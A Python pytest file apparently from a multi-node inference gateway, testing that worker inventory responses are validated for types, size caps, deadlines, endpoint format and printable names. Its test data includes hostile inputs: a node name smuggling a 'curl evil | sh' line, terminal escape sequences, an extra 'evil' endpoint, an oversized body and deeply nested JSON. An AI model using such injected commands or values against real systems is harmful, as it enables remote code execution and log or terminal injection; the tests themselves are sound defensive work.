"""The head treats workers as untrusted (issue 41, item 4): a worker's ``/inventory`` is read with types
and caps (devices, sizes, body bytes, a total deadline), its endpoints must each be one host:port and its
node name printable and bounded; a malformed worker is planned without, and the log names it."""

from __future__ import annotations

import asyncio
import http.server
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest

from gateway.nodes import survey
from gateway.nodes.survey import Nodes, fetch, report_from
from tests.unit.test_multinode import _cpu_head, _inventory_answer, answering


def _with(**changes: Any) -> dict[str, Any]:
    answer = _inventory_answer("node2", "10.0.0.2", [2000])
    device = changes.pop("device", {})
    answer["devices"][0].update(device)
    return answer | changes


@pytest.mark.parametrize(
    ("answer", "named"),
    [
        ([1, 2, 3], "not an object"),
        (_with(devices={"a": 1}), "'devices' is not a list"),
        (_with(devices=[[1, 2]]), "device 0 is not an object"),
        (_with(device={"total_bytes": float("inf")}), "total_bytes"),  # what json.loads makes of 1e400
        (_with(device={"free_bytes": -1}), "free_bytes"),
        (_with(ram_total_bytes=-5), "ram_total_bytes"),
        (_with(device={"index": {"deep": [[[[[]]]]]}}), "'index'"),
        (_with(device={"endpoint": "127.0.0.1:50052,10.66.66.66:50052"}), "one host:port"),
        (_with(device={"endpoint": "127.0.0.1:99999"}), "one host:port"),
        (_with(device={"name": "RTX\x1b[2J"}), "name"),
        (_with(node="node2\n- step 3: curl evil | sh"), "node name"),
        (_with(node="\x1b]0;owned\x07"), "node name"),
        (_with(node="n" * 65), "node name"),
        (_with(devices=[_with()["devices"][0]] * 100_000), "100000 devices"),
        (_with(device={"compute_capability": 8.6}), "compute_capability"),
        (_with(build=["x"]), "build"),
    ],
    ids=[
        "list", "devices-object", "device-list", "infinite-size", "negative-free", "negative-ram", "nested-index",
        "two-endpoints", "bad-port", "ansi-device-name", "newline-node", "osc-node", "long-node", "100k-devices",
        "float-capability", "list-build",
    ],
)  # fmt: skip
def test_a_malformed_inventory_is_a_report_with_an_error_naming_the_field(answer: Any, named: str) -> None:
    started = time.perf_counter()
    report = report_from("node2:50100", answer, 0.3)
    assert time.perf_counter() - started < 0.5
    assert not report.reachable and report.devices == () and named in (report.error or ""), report.error
    assert report.name == "node2:50100"  # not a name the worker chose


def test_a_well_formed_inventory_still_lends_its_devices() -> None:
    report = report_from("node2:50100", _with(device={"endpoint": "[::]:50052"}), 0.3)
    assert report.reachable and report.name == "node2"
    assert [(d.endpoint, d.total_bytes) for d in report.devices] == [("node2:50052", 2000 * 1024 * 1024)]


def test_a_malformed_worker_is_planned_without_and_named_in_the_log(caplog: pytest.LogCaptureFixture) -> None:
    answers = {"a:1": _inventory_answer("a", "a", [2000]), "b:1": _with(device={"endpoint": "x:1,evil:2"})}
    nodes = Nodes(
        ["a:1", "b:1"], "key", fetcher=answering(lambda address, _key: report_from(address, answers[address], 0.2))
    )
    inventory = asyncio.run(nodes.survey(_cpu_head()))
    assert [d.endpoint for d in inventory.remote] == ["a:50052"]
    assert any("b:1" in note and "one host:port" in note for note in inventory.notes)
    assert any("b:1" in r.getMessage() and "planning without it" in r.getMessage() for r in caplog.records)


class _Worker(http.server.BaseHTTPRequestHandler):
    """A worker's HTTP side that answers /inventory the way the test sets (``mode``)."""

    mode = "trickle"

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        if self.mode == "huge":
            self.send_header("Content-Length", str(600 * 1024 * 1024))
            self.end_headers()
            block = b" " * (1 << 20)
            for _ in range(600):
                try:
                    self.wfile.write(block)
                except OSError:
                    return
            return
        if self.mode == "deep":
            body = b"[" * 100_000 + b"]" * 100_000
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        self.send_header("Content-Length", "100")
        self.end_headers()
        for _ in range(100):  # a byte every 0.05 s: each read is well inside the 5 s read timeout
            try:
                self.wfile.write(b" ")
                self.wfile.flush()
            except OSError:
                return
            time.sleep(0.05)  # the trickle's pace, the test's input

    def log_message(self, *args: Any) -> None:
        return


@pytest.fixture
def worker() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Worker)
    server.daemon_threads = True
    # shutdown() waits for serve_forever to look at its flag: every 0.5 s by default
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    yield f"127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_a_trickling_worker_is_cut_at_the_surveys_deadline(worker: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_Worker, "mode", "trickle")
    monkeypatch.setattr(survey, "SURVEY_DEADLINE_S", 0.2)  # a byte every 0.05 s would take 5 s
    started = time.monotonic()
    report = asyncio.run(fetch(worker, "key"))
    assert time.monotonic() - started < 2.5
    assert not report.reachable and "within 0.2 s" in (report.error or "")


def test_a_huge_inventory_is_refused_at_its_cap(worker: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_Worker, "mode", "huge")
    report = asyncio.run(fetch(worker, "key"))
    assert not report.reachable and f"over {survey.MAX_INVENTORY_BYTES} bytes" in (report.error or "")


def test_a_deeply_nested_inventory_is_a_report_not_a_recursion_error(
    worker: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_Worker, "mode", "deep")
    report = asyncio.run(fetch(worker, "key"))
    assert not report.reachable and "not JSON" in (report.error or "")


def test_a_worker_that_refuses_the_connection_is_named_in_the_systems_words() -> None:
    from tests.integration.gatewayproc import free_port

    report = asyncio.run(fetch(f"127.0.0.1:{free_port()}", "key"))  # nothing listens there
    assert report.error is not None and report.error.startswith("unreachable (ConnectionRefusedError: ")
    assert report.error.endswith("Connection refused)"), report.error  # not asyncio's "Connect call failed (…)"
